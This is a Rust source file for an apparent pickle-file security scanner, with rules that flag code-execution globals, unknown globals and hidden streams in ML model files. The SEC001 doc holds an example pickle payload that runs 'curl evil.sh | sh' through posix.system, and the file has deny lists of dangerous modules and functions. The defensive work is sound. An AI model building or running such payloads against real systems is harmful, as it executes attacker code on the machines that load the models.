//! SEC: what the loader would import, call or read that is not a model.
//!
//! The trust model is an exact allowlist, not module prefixes: a global is safe only when
//! the (module, qualname) pair, as CPython's `find_class` resolves it (`_compat_pickle`
//! renames below protocol 3, dotted names walked from protocol 4), is one the ML
//! libraries actually pickle (`data/allowlist.tsv`, harvested by
//! scripts/harvest_allowlist.py), or one the user trusted in `allowed-globals`. Anything
//! else is a finding, and what it is decides how bad: known code execution, I/O, import
//! machinery, loaders, attribute traversal and extension codes are errors (SEC001 when
//! the load calls them, SEC002 when it only references them), other globals of the
//! standard library or a known library are SEC003 errors, and globals of the user's own
//! modules are SEC003 warnings naming `allowed-globals`. Every loader's reading is judged
//! (`joblib.load`'s and `pickle.load`'s), and so is what ran before a parse error.

use std::collections::{BTreeSet, HashSet};
use std::sync::LazyLock;

use super::{Finding, Options, Rule, Severity};
use crate::inspection::{Inspection, LoaderReading};
use crate::model::{GetattrTarget, GlobalRef, Invocation, LoadFacts};
use crate::pickle::graph::AnomalyKind;

pub const SEC001: Rule = Rule {
    code: "SEC001",
    name: "code-execution-call",
    severity: Severity::Error,
    summary: "the load runs code: a code-execution global called, attribute traversal, an extension code, a built object called",
    doc: "## What it finds
A REDUCE, NEWOBJ, INST, OBJ or BUILD `__setstate__` that calls a global able to run code,
start processes, open files or sockets, or import anything: `os`/`posix`/`nt`, `subprocess`,
`pty`, `socket`, `runpy`, `importlib`, `pkgutil.resolve_name`, `pydoc`, `builtins.eval`/
`exec`/`compile`/`__import__`/`open`, `marshal`, `ctypes`, `operator.attrgetter`, and every
loader (`pickle.loads`, `numpy.load`, `pandas.read_pickle`, `joblib.load`, ...). Also what
reaches such code without naming it: a dotted name walked through module attributes
(`uuid` + `os.system`), an EXT extension code, `getattr` on a module, an object built
during the load called in turn, a module or class changed in place.

## Why it hurts
Unpickling calls it. The file runs the attacker's code on whatever machine loads the model:
the training cluster, the CI runner, the serving pod.

## Example
`cposix\\nsystem\\n(S'curl evil.sh | sh'\\ntR.` calls `posix.system` at offset 0.

## Fix
Do not load the file. Rebuild the model from code you trust; report where it came from.",
    autofix: None,
    fix_safety: None,
    since: "0.1.0",
};

pub const SEC002: Rule = Rule {
    code: "SEC002",
    name: "code-execution-reference",
    severity: Severity::Error,
    summary: "a code-execution global is referenced (not called while loading)",
    doc: "## What it finds
A dangerous global (see SEC001) that the file imports without calling it during the load,
for example stored as a parameter: `FunctionTransformer(func=os.system)`.

## Why it hurts
The model calls it later, at transform or predict time, with data the attacker may shape.

## Example
`FunctionTransformer(func=posix.system)` references `posix.system`.

## Fix
Do not load the file; rebuild the model from trusted code.",
    autofix: None,
    fix_safety: None,
    since: "0.1.0",
};

pub const SEC003: Rule = Rule {
    code: "SEC003",
    name: "unknown-global",
    severity: Severity::Warning,
    summary: "a global that is not on the allowlist (error from a library, warning from your own modules)",
    doc: "## What it finds
A global that is not one of the exact (module, qualname) pairs scikit-learn, numpy, scipy,
pandas, XGBoost, LightGBM, CatBoost, imbalanced-learn, joblib and cloudpickle pickle (the
allowlist, see the trust model in docs/rules.md), and not allowed in the configuration
(`allowed-globals`). From the standard library or a known library it is an error: those are
not your code, and a function there that no model pickles is how payloads hide
(`pydoc.locate`, `uuid._get_command_stdout`). From any other module it is a warning
(an error under `--strict`): usually your own transformer class.

## Why it hurts
It is code the loader imports that nobody reviewed. The allowlist is what lets a registry
accept only what it knows.

## Example
`mycompany.features.Cleaner` in a pipeline.

## Fix
Once reviewed, trust it in `artifact.toml`: `allowed-globals = [\"mycompany.features.Cleaner\"]`
(or `\"mycompany.*\"` for a module of your own).",
    autofix: None,
    fix_safety: None,
    since: "0.1.0",
};

pub const SEC004: Rule = Rule {
    code: "SEC004",
    name: "hidden-content",
    severity: Severity::Error,
    summary: "content other tools skip: a second stream, trailing bytes, padding, nested pickles",
    doc: "## What it finds
Bytes that `pickle.load` does not read but other loaders or code may: a second pickle stream
after the first STOP, bytes after the last stream, joblib array padding that is longer than
alignment or not 0xFF filler, and complete pickle streams inside bytes values.

## Why it hurts
This is where payloads hide from scanners that stop at the first STOP or skip bytes; joblib's
object arrays and legacy PyTorch files do read several streams.

## Example
A fitted model followed by `cos\\nsystem\\n...` after its STOP.

## Fix
Do not load the file; rebuild it from trusted code.",
    autofix: None,
    fix_safety: None,
    since: "0.1.0",
};

pub const SEC005: Rule = Rule {
    code: "SEC005",
    name: "stream-anomaly",
    severity: Severity::Warning,
    summary: "stream anomalies: leftover stack, memo overwritten, persistent ids, misplaced PROTO",
    doc: "## What it finds
Things CPython's pickler never writes: items left on the stack at STOP, a memo slot written
twice, PROTO in the middle of a stream, opcodes newer than the stream's protocol, persistent
ids, extension codes and out-of-band buffers.

## Why it hurts
They are the tools of parser-confusion attacks (a memo slot rewritten between two reads) and
of files that load differently in different loaders.

## Example
`LONG_BINPUT 3` over a slot that already holds a string.

## Fix
Regenerate the file with a standard pickler; investigate where it came from.",
    autofix: None,
    fix_safety: None,
    since: "0.1.0",
};

pub const RULES: &[&Rule] = &[&SEC001, &SEC002, &SEC003, &SEC004, &SEC005];

/// The exact (module, qualname) pairs the ML libraries pickle.
const ALLOWLIST: &str = include_str!("data/allowlist.tsv");
/// What `torch.save` pickles (harvested in its own environment: torch is a large install).
const ALLOWLIST_TORCH: &str = include_str!("data/allowlist-torch.tsv");
/// What `skops.io.load` imports for the same models (scripts/harvest_skops.py): the
/// types of its own nodes (`builtins.str` key types, `numpy.random` generators).
const ALLOWLIST_SKOPS: &str = include_str!("data/allowlist-skops.tsv");
/// `sys.stdlib_module_names` of the Python the tables were made with.
const STDLIB_MODULES: &str = include_str!("data/stdlib_modules.txt");

static ALLOWED: LazyLock<HashSet<(&'static str, &'static str)>> = LazyLock::new(|| {
    ALLOWLIST
        .lines()
        .chain(ALLOWLIST_TORCH.lines())
        .chain(ALLOWLIST_SKOPS.lines())
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split_once('\t'))
        .collect()
});

/// Modules that hold an allowlisted global, and their parent packages: what cloudpickle's
/// `subimport(name)` may import.
static ALLOWED_MODULES: LazyLock<HashSet<&'static str>> = LazyLock::new(|| {
    let mut modules = HashSet::new();
    for (module, _) in ALLOWED.iter() {
        let mut m: &str = module;
        modules.insert(m);
        while let Some((parent, _)) = m.rsplit_once('.') {
            modules.insert(parent);
            m = parent;
        }
    }
    modules
});

static STDLIB: LazyLock<HashSet<&'static str>> = LazyLock::new(|| {
    STDLIB_MODULES
        .lines()
        .filter(|l| !l.starts_with('#'))
        .collect()
});

/// Third-party packages that are libraries, never a user's own module: a global from one
/// that is not on the allowlist is an error, like one from the standard library.
const KNOWN_LIBRARIES: &[&str] = &[
    "numpy",
    "scipy",
    "sklearn",
    "pandas",
    "xgboost",
    "lightgbm",
    "catboost",
    "imblearn",
    "joblib",
    "cloudpickle",
    "threadpoolctl",
    "torch",
    "torchvision",
    "tensorflow",
    "keras",
    "jax",
    "transformers",
    "onnx",
    "onnxruntime",
    "statsmodels",
    "skops",
    "dill",
    "yaml",
    "requests",
    "urllib3",
    "jinja2",
    "fsspec",
    "s3fs",
    "boto3",
    "botocore",
    "setuptools",
    "pkg_resources",
    "pip",
    "_distutils_hack",
    "IPython",
    "ipykernel",
    "matplotlib",
    "numba",
    "pyarrow",
    "mlflow",
    "sympy",
    "nltk",
    "spacy",
    "cython",
    "Cython",
    "psutil",
    "lz4",
    "six",
];

/// Modules every member of which can run code, touch the system or import more.
const DANGEROUS_MODULES: &[&str] = &[
    "os",
    "posix",
    "nt",
    "posixpath",
    "ntpath",
    "subprocess",
    "_posixsubprocess",
    "pty",
    "socket",
    "_socket",
    "runpy",
    "importlib",
    "pkgutil",
    "ctypes",
    "_ctypes",
    "marshal",
    "code",
    "codeop",
    "webbrowser",
    "shutil",
    "sys",
    "pickle",
    "_pickle",
    "pickletools",
    "dill",
    "shelve",
    "multiprocessing",
    "concurrent",
    "asyncio",
    "http",
    "urllib",
    "urllib2",
    "requests",
    "ftplib",
    "telnetlib",
    "smtplib",
    "imaplib",
    "poplib",
    "nntplib",
    "xmlrpc",
    "socketserver",
    "ssl",
    "timeit",
    "pdb",
    "bdb",
    "cProfile",
    "profile",
    "trace",
    "doctest",
    "venv",
    "ensurepip",
    "pip",
    "setuptools",
    "distutils",
    "imp",
    "zipimport",
    "signal",
    "_thread",
    "threading",
    "platform",
    "pydoc",
    "idlelib",
    "_osx_support",
    "_aix_support",
    "logging",
    "_io",
    "io",
    "tempfile",
    "glob",
    "fileinput",
    "zipfile",
    "tarfile",
    "builtins.__dict__",
    "sysconfig",
    "_sysconfigdata",
    "site",
    "gc",
    "inspect",
    "types.FunctionType",
    "numpy.testing",
    "numpy.f2py",
    "numpy.distutils",
    "sklearn.utils._testing",
    "torch.hub",
    "yaml",
    "cloudpickle.cloudpickle_fast",
    "_imp",
    "_frozen_importlib",
    "_frozen_importlib_external",
    "__builtin__",
    "commands",
    "cPickle",
    "SimpleHTTPServer",
    "CGIHTTPServer",
    "cgi",
    "antigravity",
];

/// Single names that can run code, in otherwise harmless modules.
const DANGEROUS_NAMES: &[(&str, &str)] = &[
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "execfile"),
    ("builtins", "compile"),
    ("builtins", "__import__"),
    ("builtins", "setattr"),
    ("builtins", "delattr"),
    ("builtins", "open"),
    ("builtins", "file"),
    ("builtins", "input"),
    ("builtins", "breakpoint"),
    ("builtins", "globals"),
    ("builtins", "locals"),
    ("builtins", "vars"),
    ("builtins", "reload"),
    ("builtins", "help"),
    ("builtins", "memoryview"),
    ("operator", "attrgetter"),
    ("operator", "methodcaller"),
    ("operator", "itemgetter"),
    ("functools", "reduce"),
    ("functools", "partial"),
    ("uuid", "_get_command_stdout"),
    ("copyreg", "add_extension"),
    ("copyreg", "_inverted_registry"),
    ("types", "CodeType"),
    ("types", "FunctionType"),
    ("numpy", "fromfile"),
    ("numpy.lib.format", "read_array"),
    ("numpy.lib.format", "open_memmap"),
    ("pandas", "eval"),
    ("pandas.core.computation.eval", "eval"),
    // How a tensor pickles with plain pickle: torch.load on bytes of the file's choosing.
    ("torch.storage", "_load_from_bytes"),
    ("torch.serialization", "_load"),
];

/// Function names that load, evaluate or run whatever module they are in.
const DANGEROUS_FUNCTION_NAMES: &[&str] = &[
    "load",
    "loads",
    "load_pickle",
    "read_pickle",
    "read_array",
    "unpickle",
    "eval",
    "exec",
    "system",
    "popen",
    "spawn",
    "execv",
    "execve",
    "run",
    "call",
    "check_call",
    "check_output",
    "getoutput",
    "runstring",
    "run_path",
    "run_module",
    "import_module",
    "resolve_name",
    "locate",
    "safe_import",
    "dictConfig",
    "fileConfig",
    "listen",
    "pipepager",
    "tempfilepager",
    "get_entity",
    "unsafe_load",
    "full_load",
    "load_all",
    "_read_output",
];

/// What the allowlist makes of one global.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Verdict {
    Allowed,
    /// Runs code, does I/O, imports, loads: never trusted, not even by configuration.
    Dangerous,
    /// A dotted name walked through attributes (protocol 4+) that is not on the list.
    Traversal,
    /// The standard library or a known library, not on the list.
    Library,
    /// Another module: the user's own code, or a package we do not know.
    UserModule,
}

fn under(module: &str, prefix: &str) -> bool {
    module == prefix
        || module
            .strip_prefix(prefix)
            .is_some_and(|r| r.starts_with('.'))
}

/// Whether a resolved global can run code or touch the system.
pub fn is_dangerous(module: &str, name: &str) -> bool {
    let full = format!("{module}.{name}");
    let last = name.rsplit('.').next().unwrap_or(name);
    DANGEROUS_MODULES
        .iter()
        .any(|m| under(module, m) || under(&full, m))
        || DANGEROUS_NAMES
            .iter()
            .any(|(m, n)| *m == module && *n == name)
        || DANGEROUS_FUNCTION_NAMES.contains(&last)
}

/// Checks `allowed-globals` entries: exact `module.qualname` names, or `package.*` for a
/// module of the user's own. A prefix over the standard library or a known library would
/// trust every function in it (`pydoc.*`, `numpy.*`), which is what the allowlist exists
/// to prevent: those must be named one by one.
pub fn validate_allowed_globals(allowed: &[String]) -> Result<(), String> {
    for pattern in allowed {
        if let Some(prefix) = pattern.strip_suffix(".*") {
            let top = prefix.split('.').next().unwrap_or(prefix);
            if STDLIB.contains(top) || KNOWN_LIBRARIES.contains(&top) {
                return Err(format!(
                    "allowed-globals: '{pattern}' would trust every global of {top}, a library that is not your own code; name the globals one by one (module.qualname)"
                ));
            }
        } else if !pattern.contains('.') || pattern.contains('*') {
            return Err(format!(
                "allowed-globals: '{pattern}' is neither module.qualname nor package.*"
            ));
        }
    }
    Ok(())
}

fn allowed_by_config(module: &str, name: &str, allowed: &[String]) -> bool {
    let full = format!("{module}.{name}");
    allowed
        .iter()
        .any(|pattern| match pattern.strip_suffix(".*") {
            Some(prefix) => under(module, prefix),
            None => *pattern == full,
        })
}

fn judge(module: &str, name: &str, dotted: bool, allowed: &[String]) -> Verdict {
    if is_dangerous(module, name) {
        return Verdict::Dangerous;
    }
    if ALLOWED.contains(&(module, name)) {
        return Verdict::Allowed;
    }
    if dotted && !allowed.iter().any(|p| *p == format!("{module}.{name}")) {
        return Verdict::Traversal;
    }
    if allowed_by_config(module, name, allowed) {
        return Verdict::Allowed;
    }
    let top = module.split('.').next().unwrap_or(module);
    if STDLIB.contains(top) || KNOWN_LIBRARIES.contains(&top) {
        Verdict::Library
    } else {
        Verdict::UserModule
    }
}

/// Where the findings of one set of load facts come from, for their messages.
struct Place<'a> {
    /// Offset of the embedded pickle the facts' offsets are relative to.
    base: Option<u64>,
    /// " when read by pickle.load", " inside the pickle embedded at offset N", "".
    within: String,
    /// The resolved globals reported already (by an earlier reading): not again.
    reported: &'a mut BTreeSet<String>,
}

impl Place<'_> {
    fn at(&self, offset: u64) -> u64 {
        self.base.map_or(offset, |b| b + offset)
    }
}

fn spelled(g: &GlobalRef) -> String {
    let written = format!("{}.{}", g.module, g.name);
    let resolved = g.resolved();
    if g.dotted {
        format!(
            "`{}` + `{}` ({resolved}, reached by walking the attributes of module {})",
            g.module, g.name, g.resolved_module
        )
    } else if written == resolved {
        written
    } else {
        format!("{written} (= {resolved})")
    }
}

fn check_facts(
    facts: &LoadFacts,
    place: &mut Place<'_>,
    options: &Options,
    out: &mut Vec<Finding>,
) {
    let allowed = &options.allowed_globals;
    for g in &facts.globals {
        let (module, name) = (g.resolved_module.as_str(), g.resolved_name.as_str());
        let verdict = judge(module, name, g.dotted, allowed);
        if verdict == Verdict::Allowed || !place.reported.insert(g.resolved()) {
            continue;
        }
        let refs = format!(
            "{} reference{}",
            g.count,
            if g.count == 1 { "" } else { "s" }
        );
        let within = &place.within;
        let finding = match verdict {
            Verdict::Allowed => continue,
            Verdict::Dangerous if g.called => Finding::new(
                &SEC001,
                format!("{} is called while loading ({refs}){within}", spelled(g)),
            ),
            Verdict::Dangerous => Finding::new(
                &SEC002,
                format!("{} is referenced ({refs}){within}", spelled(g)),
            ),
            Verdict::Traversal => Finding::new(
                &SEC001,
                format!(
                    "{} is {}: a dotted name no model pickles ({refs}){within}",
                    spelled(g),
                    if g.called {
                        "called while loading"
                    } else {
                        "imported"
                    }
                ),
            ),
            Verdict::Library => {
                let mut f = Finding::new(
                    &SEC003,
                    format!(
                        "{} is {} but not on the allowlist of what models pickle ({refs}){within}",
                        spelled(g),
                        if g.called {
                            "called while loading"
                        } else {
                            "imported"
                        }
                    ),
                );
                f.severity = Severity::Error;
                f
            }
            Verdict::UserModule => {
                let mut f = Finding::new(
                    &SEC003,
                    format!(
                        "{} is not on the allowlist ({refs}){within}: if it is your own code, review it and trust it with allowed-globals = [\"{}\"]",
                        spelled(g),
                        g.resolved()
                    ),
                );
                if options.strict {
                    f.severity = Severity::Error;
                }
                f
            }
        };
        out.push(finding.at(place.at(g.first_offset)));
    }
    for inv in &facts.invocations {
        let within = &place.within;
        let (offset, message) = match inv {
            Invocation::CalledObject {
                inert_class: true, ..
            } => continue,
            Invocation::CalledObject {
                offset, made_by, ..
            } => (
                *offset,
                format!(
                    "an object built during the load{} is called while loading: code chosen by the file runs{within}",
                    made_by
                        .as_ref()
                        .map(|m| format!(" (by {m})"))
                        .unwrap_or_default()
                ),
            ),
            Invocation::Getattr {
                offset,
                target,
                attr,
            } => {
                let attr_ok = attr
                    .as_deref()
                    .is_some_and(|a| !a.starts_with('_') || !a.ends_with("__"));
                // A bound method pickles as getattr(instance, 'name'): fine on an instance
                // of an allowed class, or of the user's own (that class is reported on its
                // own); on a module or class only where the pair itself is allowed.
                let safe = attr_ok
                    && match target {
                        GetattrTarget::Global(g) => attr.as_deref().is_some_and(|a| {
                            split_module(g).is_some_and(|(m, n)| {
                                ALLOWED.contains(&(m, format!("{n}.{a}").as_str()))
                            })
                        }),
                        GetattrTarget::Instance(class) => {
                            class
                                .as_deref()
                                .and_then(split_module)
                                .is_some_and(|(m, n)| {
                                    matches!(
                                        judge(m, n, false, &options.allowed_globals),
                                        Verdict::Allowed | Verdict::UserModule
                                    )
                                })
                                && !attr.as_deref().is_some_and(|a| is_dangerous("", a))
                        }
                        GetattrTarget::Other => false,
                    };
                if safe {
                    continue;
                }
                let on = match target {
                    GetattrTarget::Global(g) => format!("the global {g}"),
                    GetattrTarget::Instance(Some(c)) => format!("an instance of {c}"),
                    GetattrTarget::Instance(None) | GetattrTarget::Other => {
                        "a value built during the load".into()
                    }
                };
                (
                    *offset,
                    format!(
                        "getattr({on}, {}) reaches an attribute no model pickles{within}",
                        attr.as_deref()
                            .map_or("<not a constant>".into(), |a| format!("'{a}'"))
                    ),
                )
            }
            Invocation::ByName {
                offset,
                function,
                argument,
            } => {
                let safe = match (function.rsplit('.').next(), argument.as_deref()) {
                    (Some("_builtin_type"), Some(a)) => {
                        (a.ends_with("Type") && a.chars().next().is_some_and(char::is_uppercase))
                            || matches!(a, "SimpleNamespace" | "GenericAlias")
                    }
                    (Some("subimport" | "dynamic_subimport"), Some(a)) => {
                        ALLOWED_MODULES.contains(a)
                    }
                    _ => false,
                };
                if safe {
                    continue;
                }
                (
                    *offset,
                    format!(
                        "{function}({}) looks a name up while loading, and not one models use{within}",
                        argument
                            .as_deref()
                            .map_or("<not a constant>".into(), |a| format!("'{a}'"))
                    ),
                )
            }
            Invocation::Extension { offset, code } => (
                *offset,
                format!(
                    "EXT code {code}: the loader imports whatever copyreg's extension registry maps it to (a call of copyreg.add_extension earlier in a stream sets it){within}"
                ),
            ),
        };
        out.push(Finding::new(&SEC001, message).at(place.at(offset)));
    }
}

/// `module.qualname` split where the module ends, as far as the allowlist knows modules.
fn split_module(full: &str) -> Option<(&str, &str)> {
    let mut at = full.len();
    while let Some(i) = full[..at].rfind('.') {
        let (m, n) = (&full[..i], &full[i + 1..]);
        if ALLOWED_MODULES.contains(m) {
            return Some((m, n));
        }
        at = i;
    }
    full.rsplit_once('.')
}

fn check_reading(
    reading: &LoaderReading,
    reported: &mut BTreeSet<String>,
    options: &Options,
    out: &mut Vec<Finding>,
) {
    let within = match reading.reading {
        crate::pickle::Reading::JoblibLoad => String::new(),
        crate::pickle::Reading::PickleLoad => format!(", in the reading of {}", reading.label),
    };
    let mut place = Place {
        base: None,
        within,
        reported,
    };
    check_facts(&reading.facts, &mut place, options, out);
    for m in &reading.mutated {
        if let AnomalyKind::GlobalMutated { global } = &m.kind
            && place.reported.insert(format!("mutated {global}"))
        {
            out.push(
                Finding::new(
                    &SEC001,
                    format!(
                        "the load changes the imported global {global} in place (BUILD or item opcodes applied to it){}",
                        place.within
                    ),
                )
                .at(m.offset),
            );
        }
    }
}

pub fn check(inspection: &Inspection, options: &Options, findings: &mut Vec<Finding>) {
    let mut reported = BTreeSet::new();
    for reading in &inspection.readings {
        check_reading(reading, &mut reported, options, findings);
    }
    for e in &inspection.embedded_pickles {
        let mut place = Place {
            base: Some(e.span.offset),
            within: format!(", inside the pickle embedded at offset {}", e.span.offset),
            reported: &mut reported,
        };
        check_facts(&e.facts, &mut place, options, findings);
    }
    let top: Vec<_> = inspection.streams.iter().filter(|s| !s.nested).collect();
    // A legacy PyTorch file is five pickles torch.load reads in turn.
    for s in top.iter().skip(inspection.expected_streams.max(1)) {
        findings.push(
            Finding::new(
                &SEC004,
                format!(
                    "a second pickle stream ({} opcodes) after the first STOP: pickle.load ignores it, other loaders run it",
                    s.ops
                ),
            )
            .at(s.offset),
        );
    }
    if let Some(t) = inspection.trailing {
        findings.push(
            Finding::new(
                &SEC004,
                format!("{} bytes after the last pickle stream", t.len),
            )
            .at(t.offset),
        );
    }
    if let Some(t) = inspection.compressed_trailing {
        findings.push(Finding::new(
            &SEC004,
            format!(
                "{} bytes after the end of the compressed stream (at compressed offset {}): decoders that read concatenated streams see them, this one stops",
                t.len, t.offset
            ),
        ));
    }
    for e in &inspection.embedded_pickles {
        let what = if e.complete {
            format!("a complete pickle stream ({} bytes)", e.span.len)
        } else {
            format!(
                "the start of a pickle stream ({} bytes) that calls globals before it breaks off",
                e.span.len
            )
        };
        findings
            .push(Finding::new(&SEC004, format!("{what} inside a bytes value")).at(e.span.offset));
    }
    for a in &inspection.anomalies {
        let rule = match a.kind {
            AnomalyKind::UnusualJoblibPadding { .. } => &SEC004,
            // Reported as SEC001 with the reading it happens in.
            AnomalyKind::GlobalMutated { .. } => continue,
            _ => &SEC005,
        };
        let (kind, detail) = a.kind.describe();
        let opcode = a.opcode.map(|o| format!(" ({o})")).unwrap_or_default();
        findings.push(Finding::new(rule, format!("{detail}{opcode} [{kind}]")).at(a.offset));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_safe(module: &str, name: &str, allowed: &[String]) -> bool {
        judge(module, name, false, allowed) == Verdict::Allowed
    }

    #[test]
    fn code_execution_is_dangerous_wherever_it_lives() {
        assert!(is_dangerous("os", "system"));
        assert!(is_dangerous("posix", "system"));
        assert!(is_dangerous("builtins", "eval"));
        assert!(is_dangerous("importlib.machinery", "SourceFileLoader"));
        assert!(is_dangerous("pkgutil", "resolve_name"));
        assert!(is_dangerous("pydoc", "locate"));
        assert!(is_dangerous("uuid", "_get_command_stdout"));
        assert!(is_dangerous("numpy.testing._private.utils", "runstring"));
        assert!(is_dangerous("numpy.lib._npyio_impl", "load"));
        assert!(is_dangerous("pandas.io.api", "read_pickle"));
        assert!(is_dangerous("logging.config", "dictConfig"));
        assert!(is_dangerous("_io", "open"));
        assert!(is_dangerous("torch.storage", "_load_from_bytes"));
        assert!(is_dangerous("torch", "load"));
        assert!(!is_dangerous("torch._utils", "_rebuild_tensor_v2"));
        assert!(!is_dangerous("osmium", "x"));
        assert!(!is_dangerous("numpy", "dtype"));
    }

    #[test]
    fn only_exact_pairs_are_allowed() {
        assert!(is_safe("sklearn.pipeline", "Pipeline", &[]));
        assert!(is_safe("numpy._core.multiarray", "_reconstruct", &[]));
        assert!(is_safe("numpy.core.multiarray", "_reconstruct", &[]));
        assert!(is_safe("copyreg", "_reconstructor", &[]));
        assert!(!is_safe("sklearn", "os.system", &[]));
        assert!(!is_safe("sklearn.pipeline", "NotAClass", &[]));
        assert!(!is_safe("numpy", "load", &[]));
        assert!(!is_safe("mycompany.features", "Cleaner", &[]));
        assert!(is_safe(
            "mycompany.features",
            "Cleaner",
            &["mycompany.*".into()]
        ));
        assert!(is_safe(
            "mycompany.features",
            "Cleaner",
            &["mycompany.features.Cleaner".into()]
        ));
        assert!(
            !is_safe("os", "system", &["os.*".into()]),
            "the allowlist cannot allow code execution"
        );
    }

    #[test]
    fn allowed_globals_take_names_or_own_prefixes() {
        let v = |p: &[&str]| {
            validate_allowed_globals(&p.iter().map(|s| s.to_string()).collect::<Vec<_>>())
        };
        assert!(v(&["mycompany.*", "mycompany.features.Cleaner", "numpy.dtype"]).is_ok());
        assert!(v(&["numpy.*"]).is_err());
        assert!(v(&["pydoc.*"]).is_err());
        assert!(v(&["*"]).is_err());
        assert!(v(&["Cleaner"]).is_err());
    }

    #[test]
    fn verdicts_tell_libraries_from_user_modules() {
        assert_eq!(judge("uuid", "os.system", true, &[]), Verdict::Dangerous);
        assert_eq!(judge("sklearn", "base.x.y", true, &[]), Verdict::Traversal);
        assert_eq!(judge("textwrap", "dedent", false, &[]), Verdict::Library);
        assert_eq!(
            judge("sklearn.svm", "NotThere", false, &[]),
            Verdict::Library
        );
        assert_eq!(
            judge("mycompany.features", "Cleaner", false, &[]),
            Verdict::UserModule
        );
    }
}
